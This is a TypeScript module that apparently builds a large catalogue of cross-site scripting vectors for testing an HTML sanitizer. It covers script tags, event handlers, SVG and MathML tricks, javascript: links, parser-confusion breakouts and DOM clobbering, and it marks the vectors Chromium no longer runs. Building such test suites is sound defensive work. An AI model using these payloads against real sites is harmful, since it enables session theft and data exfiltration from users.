import { asReferences, nameOf, script, type Vectors } from './vector.ts'

const gone = (what: string) => ({ dead: `Chromium has no ${what}` })
/** What a picture does that is not there; its address asks nobody. */
const img = (url: string) => `<img src="x:" onerror="${script(url)}">`
const data = (html: string) => `data:text/html,${encodeURIComponent(html)}`
const svgData = (inside: string) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`)}`
const link = (href: string) => `<a href="${href}" class="go">Click here</a>`

const elements: Vectors = {
  script: (url) => `<script>${script(url)}</script>`,
  'script-case': (url) => `<ScRiPt\n>${script(url)}</sCrIpT\t>`,
  'script-slash': (url) => `<script/x/>${script(url)}</script/y>`,
  'script-type': (url) => `<script type="application/ecmascript">${script(url)}</script>`,
  'script-module': (url) => `<script type="module">${script(url)}</script>`,
  'script-data': (url) => `<script src="data:,${encodeURIComponent(script(url))}"></script>`,
  'script-in-select': (url) => `<select><script>${script(url)}</script></select>`,
  'script-in-table': (url) => `<table><script>${script(url)}</script></table>`,
  'script-alert': (url) => `<script>alert("${nameOf(url)}")</script>`,
  'script-confirm': (url) => `<img src="x:" onerror="confirm('${nameOf(url)}')">`,
  'script-split': [
    (url) => `<scr<script>ipt>${script(url)}</scr</script>ipt>`,
    { dead: 'for filters that take a word out once' },
  ],
  'script-utf-7': [(url) => `+ADw-script+AD4-${script(url)}+ADw-/script+AD4-`, gone('UTF-7')],
  'script-template': [
    (url) => `<template><script>${script(url)}</script></template>`,
    { dead: 'a template holds a document that does nothing' },
  ],
  'script-shadow': (url) => `<div><template shadowrootmode="open">${img(url)}</template></div>`,
  'script-shadow-closed': (url) => `<p><template shadowrootmode="closed">${img(url)}</template></p>`,
  'frame-document': (url) => `<iframe srcdoc="<script>${script(url)}</script>"></iframe>`,
  'frame-document-references': (url) =>
    `<iframe srcdoc="${asReferences(`<script>${script(url)}</script>`)}"></iframe>`,
  'frame-javascript': (url) => `<iframe src="javascript:${script(url)}"></iframe>`,
  'frame-javascript-broken': (url) => `<iframe src=" java\tscr\nipt&colon;${script(url)}"></iframe>`,
  'frame-data': (url) => `<iframe src="${data(`<script>${script(url)}</script>`)}"></iframe>`,
  'frame-set': (url) => `<frameset><frame src="javascript:${script(url)}"></frameset>`,
  'object-data': (url) => `<object data="${data(`<script>${script(url)}</script>`)}"></object>`,
  'object-svg': (url) => `<object data="${svgData(`<script>${script(url)}</script>`)}"></object>`,
  'object-javascript': [(url) => `<object data="javascript:${script(url)}"></object>`, gone('such objects')],
  'embed-data': (url) => `<embed src="${data(`<script>${script(url)}</script>`)}">`,
  'embed-svg-script': (url) => `<embed src="${svgData(`<script>${script(url)}</script>`)}">`,
  'embed-javascript': [(url) => `<embed src="javascript:${script(url)}">`, gone('such embedded things')],
}

const events: Vectors = {
  'on-error': img,
  'on-error-case': (url) => `<IMG SRC=x: OnErRoR=${script(url)}>`,
  'on-error-slashes': (url) => `<img/src="x:"/onerror="${script(url)}"/>`,
  'on-error-no-space': (url) => `<img src="x:"onerror="${script(url)}">`,
  'on-error-form-feed': (url) => `<img\fsrc=x:\fonerror\f=\f"${script(url)}">`,
  'on-error-references': (url) => `<img src="x:" onerror="${asReferences(script(url))}">`,
  'on-error-image': (url) => `<image src="x:" onerror="${script(url)}">`,
  'on-error-srcset': (url) => `<img srcset="x:" onerror="${script(url)}">`,
  'on-error-picture': (url) => `<picture><source srcset="x:"><img onerror="${script(url)}"></picture>`,
  'on-error-source': (url) => `<video><source onerror="${script(url)}" src="x:"></video>`,
  'on-error-video': (url) => `<video src="x:" onerror="${script(url)}"></video>`,
  'on-error-audio': (url) => `<audio src="x:" onerror="${script(url)}"></audio>`,
  'on-error-script': (url) => `<script src="x:" onerror="${script(url)}"></script>`,
  'on-error-link': (url) => `<link rel="stylesheet" href="x:" onerror="${script(url)}">`,
  'on-error-input': (url) => `<input type="image" src="x:" onerror="${script(url)}">`,
  'on-error-svg': (url) => `<svg><image href="x:" onerror="${script(url)}"/></svg>`,
  'on-load-picture': (url) =>
    `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${script(url)}">`,
  'on-load-style': (url) => `<style onload="${script(url)}"></style>`,
  'on-load-link': (url) => `<link rel="stylesheet" href="data:text/css," onload="${script(url)}">`,
  'on-load-frame': (url) => `<iframe onload="${script(url)}"></iframe>`,
  'on-load-svg': (url) => `<svg onload="${script(url)}"></svg>`,
  'on-load-svg-slash': (url) => `<svg/onload="${script(url)}"/>`,
  'on-load-body': (url) => `<body onload="${script(url)}">x`,
  'on-load-second-body': (url) => `<p>x</p><body onload="${script(url)}">`,
  'on-page-show': (url) => `<body onpageshow="${script(url)}">x`,
  'on-load-html': [(url) => `<html onload="${script(url)}"><p>x`, gone('load events of the root element')],
  'on-load-frame-set': (url) => `<frameset onload="${script(url)}"><frame></frameset>`,
  'on-start-load': (url) => `<video src="data:video/webm," onloadstart="${script(url)}"></video>`,
  'on-toggle': (url) => `<details open ontoggle="${script(url)}">x</details>`,
  'on-toggle-click': (url) =>
    `<details ontoggle="${script(url)}"><summary class="go">More</summary>x</details>`,
  'on-before-toggle': (url) =>
    `<button popovertarget="p" class="go">More</button><p popover id="p" onbeforetoggle="${script(url)}">x</p>`,
  'on-command': (url) =>
    `<button command="--x" commandfor="c" class="go">More</button><p id="c" oncommand="${script(url)}">x</p>`,
  'on-focus-input': (url) => `<input autofocus onfocus="${script(url)}">`,
  'on-focus-select': (url) => `<select class="go" onfocus="${script(url)}"></select>`,
  'on-focus-area': (url) => `<textarea rows="1" class="go" onfocus="${script(url)}"></textarea>`,
  'on-focus-any': (url) => `<p tabindex="1" class="go" onfocus="${script(url)}">x</p>`,
  'on-focus-unknown': (url) => `<x-y contenteditable class="go" onfocus="${script(url)}">x</x-y>`,
  'on-click': (url) => `<p onclick="${script(url)}" class="go">Click here</p>`,
  'on-click-unknown': (url) => `<unknown onclick="${script(url)}" class="go">Click here</unknown>`,
  'on-press': (url) => `<p onpointerdown="${script(url)}" class="go">Press here</p>`,
  'on-hover': (url) => `<p onmouseover="${script(url)}" class="go">Point here</p>`,
  'on-hover-svg': (url) =>
    `<svg width="90" height="20"><rect width="90" height="20" class="go" onpointerenter="${script(url)}"/></svg>`,
  'on-click-math': (url) => `<math><mi onclick="${script(url)}" class="go">xyz</mi></math>`,
  'on-submit': (url) => `<form onsubmit="${script(url)}"><button class="go">Send</button></form>`,
  'on-marquee': [
    (url) => `<marquee onstart="${script(url)}">x</marquee>`,
    gone('events of a marquee any more'),
  ],
  'on-animation': (url) =>
    `<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationend="${script(url)}">x</p>`,
  'on-animation-start': (url) =>
    `<style>@keyframes a{}</style><p style="animation:a 9s" onwebkitanimationstart="${script(url)}">x</p>`,
  'on-transition': (url) =>
    `<style>@starting-style{.t{opacity:0}}.t{transition:opacity 1ms}</style><p class="t" ontransitionend="${script(url)}">x</p>`,
  'on-visibility': (url) =>
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${script(url)}">x</p>`,
  'on-scroll': (url) =>
    `<a href="#s" class="go">Down</a><div style="overflow:auto;height:20px" onscroll="${script(url)}"><p style="height:900px">x</p><b id="s">y</b></div>`,
  'open-window': (url) => `<p onclick="window.open('${url}')" class="go">Click here</p>`,
}

const foreign: Vectors = {
  'svg-script': (url) => `<svg><script>${script(url)}</script></svg>`,
  'svg-script-references': (url) => `<svg><script>${asReferences(script(url))}</script></svg>`,
  'svg-script-cdata': (url) => `<svg><script><![CDATA[${script(url)}]]></script></svg>`,
  'svg-script-comment': (url) => `<svg><script>fetch<!-- -->${script(url).slice(5)}</script></svg>`,
  'svg-script-data': (url) => `<svg><script href="data:,${encodeURIComponent(script(url))}"/></svg>`,
  'svg-script-xlink': (url) => `<svg><script xlink:href="data:,${encodeURIComponent(script(url))}"/></svg>`,
  'svg-animate-begin': (url) => `<svg><animate attributeName="x" dur="1ms" onbegin="${script(url)}"/></svg>`,
  'svg-animate-end': (url) => `<svg><animate attributeName="x" dur="1ms" onend="${script(url)}"/></svg>`,
  'svg-animate-repeat': (url) =>
    `<svg><animate attributeName="x" dur="1ms" repeatCount="9" onrepeat="${script(url)}"/></svg>`,
  'svg-set-begin': (url) => `<svg><set attributeName="x" onbegin="${script(url)}"/></svg>`,
  'svg-animate-link': (url) =>
    `<svg width="90" height="20"><a><animate attributeName="href" values="javascript:${script(url)};#" dur="99s"/><rect width="90" height="20" class="go"/></a></svg>`,
  'svg-set-link': (url) =>
    `<svg width="90" height="20"><a><set attributeName="href" to="${asReferences(`javascript:${script(url)}`)}"/><rect width="90" height="20" class="go"/></a></svg>`,
  'svg-animate-script': [
    (url) => `<svg><script><animate attributeName="href" values="data:,${script(url)}"/></script></svg>`,
    { dead: 'Chromium animates no address of a script' },
  ],
  'svg-animate-event': [
    (url) => `<svg><rect width="9" height="9"><set attributeName="onload" to="${script(url)}"/></rect></svg>`,
    { dead: 'Chromium animates no event handlers' },
  ],
  'svg-link': (url) =>
    `<svg width="90" height="20"><a href="javascript:${script(url)}"><rect width="90" height="20" class="go"/></a></svg>`,
  'svg-link-xlink': (url) =>
    `<svg width="90" height="20"><a xlink:href="java&Tab;script:${script(url)}"><rect width="90" height="20" class="go"/></a></svg>`,
  'svg-use-data': [
    (url) =>
      `<svg><use href="${svgData(`<g id="x"><image href="x:" onerror="${script(url)}"/></g>`)}#x"/></svg>`,
    gone('data: addresses in use'),
  ],
  'svg-foreign-object': (url) => `<svg><foreignObject>${img(url)}</foreignObject></svg>`,
  'svg-title': (url) => `<svg><title>${img(url)}</title></svg>`,
  'svg-description': (url) => `<svg><desc>${img(url)}</desc></svg>`,
  'svg-style': (url) => `<svg><style>${img(url)}</style></svg>`,
  'svg-text-area': (url) => `<svg><textarea>${img(url)}</textarea></svg>`,
  'svg-no-script': (url) => `<svg><noscript>${img(url)}</noscript></svg>`,
  'svg-frame': (url) => `<svg><iframe>${img(url)}</iframe></svg>`,
  'svg-script-broken': (url) => `<svg><script>${img(url)}</script></svg>`,
  'svg-handler': [
    (url) => `<svg><handler type="text/javascript" ev:event="load">${script(url)}</handler></svg>`,
    gone('handler elements'),
  ],
  'math-style': (url) => `<math><style>${img(url)}</style></math>`,
  'math-title': (url) => `<math><title>${img(url)}</title></math>`,
  'math-text': (url) => `<math><mtext>${img(url)}</mtext></math>`,
  'math-annotation': (url) =>
    `<math><annotation-xml encoding="text/html">${img(url)}</annotation-xml></math>`,
  'math-annotation-style': (url) =>
    `<math><annotation-xml><style>${img(url)}</style></annotation-xml></math>`,
  'math-glyph-style': (url) => `<math><mtext><mglyph><style>${img(url)}</style></mglyph></mtext></math>`,
  'math-malign-style': (url) => `<math><mi><malignmark><style>${img(url)}</style></malignmark></mi></math>`,
  'math-svg-style': (url) =>
    `<math><annotation-xml><svg><style>${img(url)}</style></svg></annotation-xml></math>`,
  'math-link': [
    (url) => `<math href="javascript:${script(url)}"><mi class="go">xyz</mi></math>`,
    gone('links in MathML'),
  ],
  'math-action': [
    (url) =>
      `<math><maction actiontype="statusline#x" xlink:href="javascript:${script(url)}"><mi class="go">xyz</mi></maction></math>`,
    gone('links in MathML'),
  ],
}

const addresses: Vectors = {
  link: (url) => link(`javascript:${script(url)}`),
  'link-case': (url) => link(`JaVaScRiPt:${script(url)}`),
  'link-space': (url) => link(` javascript:${script(url)}`),
  'link-controls': (url) => link(`&#1;&#31;javascript:${script(url)}`),
  'link-tab': (url) => link(`java\tscript:${script(url)}`),
  'link-lines': (url) => link(`java\r\nscript\n:${script(url)}`),
  'link-references': (url) => link(asReferences(`javascript:${script(url)}`)),
  'link-open-references': (url) => link(asReferences(`javascript: ${script(url)}`).replaceAll(';', '')),
  'link-padded-references': (url) => link(`&#0000106&#x000061vascript:${script(url)}`),
  'link-named-references': (url) => link(`java&NewLine;script&colon;${script(url)}`),
  'link-encoded': (url) => link(`javascript:${encodeURIComponent(script(url))}`),
  'link-comment': (url) => link(`javascript://example.com/%0a${script(url)}`),
  'link-new-tab': (url) =>
    `<a href="javascript:fetch(\`${url}\`)" target="_blank" rel="opener" class="go">Click here</a>`,
  'link-area': (url) =>
    `<map name="m"><area shape="default" href="javascript:${script(url)}"></map><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" width="50" height="20" usemap="#m" class="go">`,
  'link-data': (url) => link(`data:text/html,<script>fetch(\`${url}\`)</script>`),
  'link-data-top': [
    (url) =>
      `<a href="data:text/html,<script>fetch('${url}')</script>" target="_top" class="go">Click here</a>`,
    { dead: 'Chromium opens no data: in a tab' },
  ],
  'link-vbscript': [(url) => link(`vbscript:${script(url)}`), gone('VBScript')],
  'link-in-base': [
    (url) => `<base href="javascript:/a/-${script(url)}///"><a href="#" class="go">Click here</a>`,
    { dead: 'Chromium takes no such base' },
  ],
  'refresh-javascript': [
    (url) => `<meta http-equiv="refresh" content="0;url=javascript:${script(url)}">`,
    { dead: 'a refresh runs nothing' },
  ],
  'refresh-data': (url) =>
    `<meta http-equiv="refresh" content="0;url=${data(`<script>fetch('${url}')</script>`)}">`,
  'form-javascript': (url) =>
    `<form action="javascript:${script(url)}"><button class="go">Send</button></form>`,
  'form-button': (url) =>
    `<form><button formaction="java&Tab;script:${script(url)}" class="go">Send</button></form>`,
  'form-submit': (url) =>
    `<form><input type="submit" formaction="javascript:${script(url)}" class="go"></form>`,
  'form-apart': (url) =>
    `<form id="f"></form><button form="f" formaction="javascript:${script(url)}" class="go">Send</button>`,
  'form-nested': (url) =>
    `<form id="a"><div></form><form action="javascript:${script(url)}"><button class="go">Send</button></form>`,
  'form-clobbers': (url) =>
    `<form onpointerdown="${script(url)}" class="go"><input name="attributes"><input name="attributes"></form>`,
  'form-clobbers-parent': (url) =>
    `<form onpointerdown="${script(url)}" class="go"><input name="parentNode"><input name="nodeName"></form>`,
  'form-clobbers-removal': (url) =>
    `<form onpointerdown="${script(url)}" ><input class="go" id="removeChild"><input id="remove"><input name="removeAttribute"></form>`,
}

const parsing: Vectors = {
  'after-comment': (url) => `<!-->${img(url)}-->`,
  'after-dash': (url) => `<!--->${img(url)}-->`,
  'after-bang': (url) => `<!-- a --!>${img(url)}-->`,
  'after-nested-comment': (url) => `<!-- <!-- -->${img(url)} -->`,
  'after-condition': (url) => `<![if true]><script>${script(url)}</script><![endif]>`,
  'after-cdata': (url) => `<![CDATA[>${img(url)}]]>`,
  'after-instruction': (url) => `<?xml-stylesheet >${img(url)}?>`,
  'after-bogus-end': (url) => `</ >${img(url)}`,
  'after-entity': (url) => `<!ENTITY x "${'>'}${img(url)}">`,
  'after-doctype': (url) => `<!doctype html [<!ELEMENT x>${img(url)}]>`,
  'after-less': (url) => `<<img src="x:" onerror="${script(url)}">`,
  'after-quotes': (url) => `<img """>${img(url)}">`,
  'after-title': (url) => `<title><i title="</title>${img(url).replaceAll('"', '')}"></title>`,
  'after-text-area': (url) => `<textarea><i title="</textarea>${img(url).replaceAll('"', '')}"></textarea>`,
  'after-no-script': (url) => `<noscript><i title="</noscript>${img(url).replaceAll('"', '')}"></noscript>`,
  'after-xmp': (url) => `<xmp><i title="</xmp>${img(url).replaceAll('"', '')}"></xmp>`,
  'after-no-embed': (url) => `<noembed><i title="</noembed>${img(url).replaceAll('"', '')}"></noembed>`,
  'after-no-frames': (url) => `<noframes><i title="</noframes>${img(url).replaceAll('"', '')}"></noframes>`,
  'after-iframe': (url) => `<iframe><i title="</iframe>${img(url).replaceAll('"', '')}"></iframe>`,
  'after-style-string': (url) => `<style>p{content:"</style><script>${script(url)}</script>"}</style>`,
  'after-style-comment': (url) => `<style><!--</style>${img(url)}--></style>`,
  'after-style-css-comment': (url) => `<style>/*</style>${img(url)}*/</style>`,
  'after-script-comment': (url) => `<script><!--</script>${img(url)}--></script>`,
  'unclosed-tag': (url) => `<img src="x:" onerror="${script(url)}" `,
  'unclosed-attribute': [
    (url) => `<img src="x:" onerror="${script(url)}//`,
    { dead: 'the tag never ends', swallows: true },
  ],
  'no-closing': (url) => `<p title='x'><img src=x: onerror=${script(url)}><b`,
  'in-frameset': (url) => `<frameset><noframes></noframes><frame src="javascript:${script(url)}"></frameset>`,
  'in-head': (url) => `<head><script>${script(url)}</script></head>`,
  'after-html': (url) => `<p>x</p></body></html>${img(url)}`,
  'control-in-name': [
    (url) => `<img src="x:" on\u0000error="${script(url)}">`,
    { dead: 'no name of an event' },
  ],
  'css-expression': [
    (url) => `<p style="width:expression(${script(url)});behavior:url(#x)">x</p>`,
    gone('expressions in CSS'),
  ],
  'css-javascript': [
    (url) =>
      `<style>@import "javascript:${script(url)}";p{background:url("javascript:${script(url)}")}</style><p>x</p>`,
    { dead: 'a style sheet runs nothing' },
  ],
  'css-binding': [
    (url) => `<p style="-moz-binding:url(data:text/xml,${encodeURIComponent(script(url))})">x</p>`,
    gone('bindings'),
  ],
}

/** Ways to run a script. */
export const scripts: Vectors = { ...elements, ...events, ...foreign, ...addresses, ...parsing }
